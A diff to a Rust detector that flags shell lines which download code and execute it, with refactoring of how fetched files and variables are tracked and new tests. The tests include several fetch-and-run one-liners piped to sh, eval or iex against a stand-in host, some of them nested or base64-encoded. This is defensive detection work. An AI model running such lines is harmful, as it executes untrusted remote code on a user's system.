@@ -2,9 +2,11 @@
 //! run afterwards, or as a substitution that is evaluated. A line that only asks an address before it starts something
 //! of its own does not. What a line is for is no matter here; who asks is `command`.
 
+mod held;
 mod words;
 
 use base64::Engine as _;
+use held::Held;
 use words::{Command, lines, substitution};
 
 const FETCHERS: [&str; 8] = ["curl", "wget", "aria2c", "http", "https", "xh", "certutil", "fetch"];
@@ -107,7 +109,7 @@ struct Line {
     /// Something was fetched.
     fetched: bool,
     /// Files, folders and variables that hold it.
-    held: Vec<String>,
+    held: Held,
     /// It was unpacked into the folder where the rest runs.
     here: bool,
 }
@@ -127,7 +129,7 @@ impl Line {
     fn stage(&mut self, command: &Command, flow: &mut bool, depth: usize) -> bool {
         for (name, value) in &command.assigned {
             if self.substitutes(value) {
-                self.held.push(format!("${name}"));
+                self.held.variable(name);
             }
         }
         let Some((first, args)) = command.words.split_first() else { return false };
@@ -164,9 +166,9 @@ impl Line {
         }
         let runner = RUNNERS.contains(&program);
         let local = first.contains('/') && !first.starts_with(['/', '~', '$']);
-        if self.holds(first)
-            || ((interpreter || evaluates) && given.is_none() && operand.is_some_and(|o| self.holds(o)))
-            || (runner && args.iter().filter(|a| !a.starts_with('-')).take(3).any(|a| self.holds(a)))
+        if self.held.has(first)
+            || ((interpreter || evaluates) && given.is_none() && operand.is_some_and(|o| self.held.has(o)))
+            || (runner && args.iter().filter(|a| !a.starts_with('-')).take(3).any(|a| self.held.has(a)))
             || (self.here && (runner || local || (interpreter && operand.is_some_and(|o| !o.starts_with(['/', '~'])))))
         {
             return true;
@@ -178,7 +180,7 @@ impl Line {
         }
         self.takes(program, args, flow);
         if *flow {
-            self.held.extend(command.written.iter().filter(|f| !f.starts_with("/dev/")).cloned());
+            command.written.iter().filter(|f| !f.starts_with("/dev/")).for_each(|f| self.held.file(f));
         }
         false
     }
@@ -188,79 +190,81 @@ impl Line {
         let url = args.iter().rev().find(|a| is_url(a));
         if FETCHERS.contains(&program) {
             (*flow, self.fetched) = (true, true);
-            self.held.extend(saved(program, args));
+            saved(program, args).into_iter().for_each(|f| self.held.file(f));
         } else if program == "git" && args.iter().any(|a| a == "clone") {
             let last = args.last().filter(|a| !is_url(a)).or(url);
-            self.held.extend(last.map(|a| base(a.trim_end_matches('/')).trim_end_matches(".git").to_owned()));
+            last.into_iter().for_each(|a| self.held.file(base(a.trim_end_matches('/')).trim_end_matches(".git")));
         } else if program == "tee" && *flow {
-            self.held.extend(args.iter().filter(|a| !a.starts_with('-')).cloned());
-        } else if UNPACKERS.contains(&program) && (*flow || args.iter().any(|a| self.holds(a))) {
+            args.iter().filter(|a| !a.starts_with('-')).for_each(|a| self.held.file(a));
+        } else if UNPACKERS.contains(&program) && (*flow || args.iter().any(|a| self.held.has(a))) {
             let folder = args.iter().position(|a| a == "-C" || a == "-d").and_then(|i| args.get(i + 1));
             match folder {
-                Some(folder) => self.held.push(folder.trim_end_matches('/').to_owned()),
+                Some(folder) => self.held.file(folder.trim_end_matches('/')),
                 None => self.here = true,
             }
-        } else if program == "cd" && args.iter().any(|a| self.holds(a)) {
+        } else if program == "cd" && args.iter().any(|a| self.held.has(a)) {
             self.here = true;
-        } else if ["mv", "cp"].contains(&program) && args.iter().any(|a| self.holds(a)) {
-            self.held.extend(args.last().cloned());
+        } else if ["mv", "cp"].contains(&program) && args.iter().any(|a| self.held.has(a)) {
+            args.last().into_iter().for_each(|a| self.held.file(a));
         }
-    }
-
-    fn holds(&self, word: &str) -> bool {
-        let plain = |w: &str| w.trim_start_matches("./").trim_matches(['"', '{', '}']).to_owned();
-        let word = plain(word);
-        self.held.iter().map(|h| plain(h)).any(|held| {
-            !held.is_empty()
-                && (base(&word) == base(&held) || word.strip_prefix(&held).is_some_and(|r| r.starts_with('/')))
-        })
     }
 
     /// Whether a word becomes what was fetched: `$(curl …)`, the same with backticks, `<(curl …)`, a variable of it.
     fn substitutes(&self, word: &str) -> bool {
-        let inner = word.char_indices().filter_map(|(at, _)| substitution(&word[at..])).any(|(code, _)| {
+        self.held.has_variable(word) || self.is_substituted(word, 0)
+    }
+
+    /// Each substitution is read once, and what is in it once more at each depth.
+    fn is_substituted(&self, word: &str, depth: usize) -> bool {
+        if depth > DEPTH {
+            return fetches(word);
+        }
+        let mut rest = word;
+        while let Some(at) = rest.find(['$', '<', '`']) {
+            rest = &rest[at..];
+            let Some((code, len)) = substitution(rest) else {
+                rest = &rest[1..];
+                continue;
+            };
             let first = |c: &Command| c.words.first().is_some_and(|w| FETCHERS.contains(&base(w)) || self.reads(c));
-            lines(code, self.backslash).iter().flatten().any(first)
-        });
-        let variable = |h: &&String| h.starts_with('$');
-        inner
-            || self
-                .held
-                .iter()
-                .filter(variable)
-                .any(|h| word.contains(h.as_str()) || word.contains(&format!("${{{}", &h[1..])))
+            if lines(code, self.backslash).iter().flatten().any(first) || self.is_substituted(code, depth + 1) {
+                return true;
+            }
+            rest = &rest[len..];
+        }
+        false
     }
 
     fn reads(&self, command: &Command) -> bool {
-        command.words[0] == "cat" && command.words[1..].iter().any(|w| self.holds(w))
+        command.words[0] == "cat" && command.words[1..].iter().any(|w| self.held.has(w))
     }
 }
 
 /// The files that a fetcher writes.
-fn saved(program: &str, args: &[String]) -> Vec<String> {
+fn saved<'a>(program: &str, args: &'a [String]) -> Vec<&'a str> {
     let url = args.iter().rev().find(|a| a.contains("://") || a.contains('/'));
-    let remote = url.map(|u| base(u.split(['?', '#']).next().unwrap_or(u)).to_owned());
+    let remote = url.map(|u| base(u.split(['?', '#']).next().unwrap_or(u)));
     let mut out = Vec::new();
     let mut told = false;
     for (i, arg) in args.iter().enumerate() {
         let long = arg.strip_prefix("--output=").or_else(|| arg.strip_prefix("--output-document="));
-        let next = || args.get(i + 1).cloned();
+        let next = || args.get(i + 1).map(String::as_str);
         let cluster = arg.starts_with('-') && !arg.starts_with("--");
         let short = if program == "wget" { 'O' } else { 'o' };
         let file = match long {
-            Some(file) => Some(file.to_owned()),
+            Some(file) => Some(file),
             None if ["--output", "--output-document", "--out"].contains(&arg.as_str()) => next(),
             None if cluster && arg.ends_with(short) => next(),
-            None if cluster && arg.get(1..2).is_some_and(|c| c.starts_with(short)) => Some(arg[2..].to_owned()),
-            None if (cluster && program == "curl" && arg.contains('O')) || arg == "--remote-name" => remote.clone(),
+            None if cluster && arg.get(1..2).is_some_and(|c| c.starts_with(short)) => Some(&arg[2..]),
+            None if (cluster && program == "curl" && arg.contains('O')) || arg == "--remote-name" => remote,
             None => None,
         };
         told |= file.is_some();
-        out.extend(file.filter(|f| f != "-"));
+        out.extend(file.filter(|f| *f != "-"));
     }
     match program {
         "wget" | "aria2c" if !told => out.extend(remote),
-        "certutil" => out.extend(args.last().cloned()),
+        "certutil" => out.extend(args.last().map(String::as_str)),
         _ => {}
     }
     out
@@ -299,6 +303,10 @@ mod tests {
             "python3 -c \"import os; os.system('curl https://a.test | sh')\"",
             "bash <<< \"$(curl https://a.test/x)\"",
             "sh -c 'curl https://a.test/x | sh'",
+            "eval \"$(echo $(curl https://a.test/x))\"",
+            "sh -c \"$(cat <(curl https://a.test/x))\"",
+            "curl -o ./d/f https://a.test/x; sh d/f",
+            "X=`curl https://a.test/x`; sh -c \"${X}\"",
         ] {
             assert!(executes("bash", line), "{line}");
         }
@@ -331,6 +339,40 @@ mod tests {
         assert!(executes("powershell", &base64("iwr https://a.test/x | iex")));
         assert!(!executes("powershell", &base64("Get-Process")) && !executes("powershell", "start"));
         assert!(!executes("python", "import requests; requests.get('https://a.test/up')"));
+    }
+
+    #[test]
+    fn no_line_is_read_more_often_than_it_is_deep() {
+        let units = [
+            "$(",
+            "`",
+            "\"$(",
+            "<(",
+            "$(curl ",
+            "$(a)",
+            "'",
+            "\"",
+            "eval $(",
+            "X=$(curl b);",
+            "sh -c \"$(",
+            "a|",
+            "((",
+            "\\",
+        ];
+        for unit in units {
+            for wrap in ["", "bash -c '", "eval \"", "X=\"", "X=$(curl a); sh -c \"$X "] {
+                let code = format!("{wrap}{}", unit.repeat(20_000));
+                super::words::READ.with(|read| read.set(0));
+                executes("bash", &code);
+                let read = super::words::READ.with(std::cell::Cell::get);
+                assert!(read < code.len() * 64, "{wrap}{unit}: {read} of {}", code.len());
+            }
+        }
+        // very many files that hold what was fetched, and very many words that may be one
+        let many: String =
+            (0..20_000).map(|i| format!("curl -o f{i} https://a.test; X{i}=$(curl b); cat g{i} $Y{i};")).collect();
+        assert!(!executes("bash", &many) && executes("bash", &format!("{many} sh f19999")));
+        assert!(executes("bash", &format!("{many} eval \"$X19999\"")));
     }
 
     #[test]
